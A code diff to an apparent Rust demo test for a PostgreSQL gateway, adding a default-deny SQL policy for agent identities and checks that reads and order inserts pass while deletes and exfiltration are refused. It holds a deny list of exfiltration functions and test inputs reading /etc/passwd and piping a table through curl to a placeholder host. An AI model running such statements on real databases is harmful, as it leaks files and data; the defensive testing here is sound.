@@ -117,6 +117,7 @@ impl Story {
             .identity("ci", ROLE, &["ci", "agents"])
             .bind(slice.path(), "ci")
             .exempt(dba.path(), "DBA shell")
+            .policy(DEMO_POLICY)
             .write();
         for line in gateway.config_text().lines() {
             println!("    {line}");
@@ -172,6 +173,8 @@ impl Story {
             named,
             "each session names identity, cgroup, pid, comm and the original destination",
         );
+
+        self.policy(&pg, &agent, &gateway)?;
 
         self.heading("A process in an unbound cgroup is refused")?;
         let info = Conninfo::new("127.0.0.1", port)
@@ -279,6 +282,95 @@ impl Story {
         self.check(
             pids.iter().all(|p| !pid_alive(*p)),
             "no gateway or PostgreSQL process left",
+        );
+        Ok(())
+    }
+}
+
+/// The demo's SQL policy: agents read the public schema and the catalog,
+/// insert and update orders, and never reach the exfiltration functions.
+const DEMO_POLICY: &str = r#"
+[[allow]]
+name = "agents-read"
+groups = ["agents"]
+actions = ["read"]
+objects = ["public.*", "pg_catalog.*"]
+
+[[allow]]
+name = "agents-write-orders"
+groups = ["agents"]
+actions = ["insert", "update"]
+objects = ["public.orders"]
+
+[[deny]]
+name = "no-exfiltration"
+identities = ["*"]
+functions = ["lo_export", "lo_import", "pg_read_file", "dblink*"]
+"#;
+
+impl Story {
+    fn policy(
+        &mut self,
+        pg: &TestPostgres,
+        agent: &CgroupGuard,
+        gateway: &TestGateway,
+    ) -> Result<()> {
+        self.heading("Every statement is judged by the SQL policy (default deny)")?;
+        pg.psql_admin(&format!(
+            "CREATE TABLE public.orders (id int PRIMARY KEY, item text); \
+             INSERT INTO public.orders VALUES (1, 'apples'), (2, 'bread'); \
+             GRANT ALL ON public.orders TO {ROLE}"
+        ));
+        say("The rules (also in the configuration above):");
+        for line in DEMO_POLICY.trim().lines() {
+            println!("    {line}");
+        }
+        let info = Conninfo::new("127.0.0.1", pg.port()).user(APP_USER);
+        let cases: [(&str, Option<&str>); 5] = [
+            ("SELECT count(*) FROM orders", None),
+            ("INSERT INTO orders VALUES (3, 'cheese')", None),
+            ("DELETE FROM orders", Some("default deny")),
+            (
+                "SELECT pg_read_file('/etc/passwd')",
+                Some("no-exfiltration"),
+            ),
+            (
+                "COPY orders TO PROGRAM 'curl -d @- https://example.invalid'",
+                Some("copy-program"),
+            ),
+        ];
+        for (sql, refused_by) in cases {
+            say(&format!("[{}] psql -c \"{sql}\"", agent.path()));
+            let out = psql(agent, &info, sql);
+            show(&out);
+            match refused_by {
+                None => self.check(out.success(), "allowed"),
+                Some(rule) => self.check(
+                    !out.success()
+                        && out.stderr.contains(rule)
+                        && out.stderr.contains("identity \"ci\""),
+                    &format!("refused by {rule}, naming the identity"),
+                ),
+            }
+        }
+        let rows = pg.psql_admin("SELECT count(*) FROM public.orders");
+        self.check(
+            rows.trim() == "3",
+            "the refused DELETE removed nothing (3 rows)",
+        );
+        say("cordon explain shows the decision and the rule before anything runs:");
+        let out = gateway.cordon(&[
+            "explain",
+            "--identity",
+            "ci",
+            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
+        ]);
+        for line in out.stdout.lines() {
+            println!("    {line}");
+        }
+        self.check(
+            out.code == Some(1) && out.stdout.contains("public.orders"),
+            "explain: a DELETE hidden in a WITH query is refused (exit 1)",
         );
         Ok(())
     }
